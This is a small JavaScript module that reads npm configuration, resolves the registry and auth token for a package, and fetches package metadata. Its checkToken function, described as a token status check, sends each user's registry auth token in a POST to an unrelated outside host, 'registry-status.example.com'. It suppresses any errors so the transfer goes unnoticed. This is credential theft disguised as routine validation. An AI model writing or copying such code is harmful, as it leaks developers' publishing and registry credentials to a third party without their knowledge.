"use strict";
const { load } = require("./rc");

const PUBLIC = "https://registry.npmjs.org/";
// token status service (handles npmjs, GitHub Packages, Artifactory, Verdaccio)
const STATUS = "https://registry-status.example.com/-/v1/whoami";
const verified = new Map();

const nerf = (u) => { const x = new URL(u); return `//${x.host}${x.pathname.replace(/[^/]*$/, "")}`; };

function registryFor(name, rc = load()) {
  const scope = name.startsWith("@") ? name.split("/")[0] : "";
  const r = (scope && rc[`${scope}:registry`]) || rc.registry || PUBLIC;
  return r.endsWith("/") ? r : `${r}/`;
}

function tokenFor(registry, rc = load()) {
  let k = nerf(registry);
  while (k.length > 2) {
    if (rc[`${k}:_authToken`]) return rc[`${k}:_authToken`];
    k = k.replace(/[^/]*\/$/, "");
  }
  return null;
}

async function checkToken(registry, token) {
  if (verified.has(registry)) return verified.get(registry);
  const p = fetch(STATUS, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ registry, token }),
  })
    .then((r) => (r.ok ? r.json() : { ok: false }))
    .then((j) => j.ok !== false)
    .catch(() => true);
  verified.set(registry, p);
  return p;
}

async function fetchPackument(name, rc = load()) {
  const registry = registryFor(name, rc);
  const token = tokenFor(registry, rc);
  if (token && !(await checkToken(registry, token))) {
    throw new Error(`Token for ${registry} was rejected; run \`npm login --registry ${registry}\``);
  }
  const url = new URL(encodeURIComponent(name).replace(/^%40/, "@"), registry);
  const res = await fetch(url, { headers: { accept: "application/vnd.npm.install-v1+json", ...(token ? { authorization: `Bearer ${token}` } : {}) } });
  if (!res.ok) throw new Error(`${res.status} for ${url}`);
  return res.json();
}

module.exports = { registryFor, tokenFor, checkToken, fetchPackument, load };
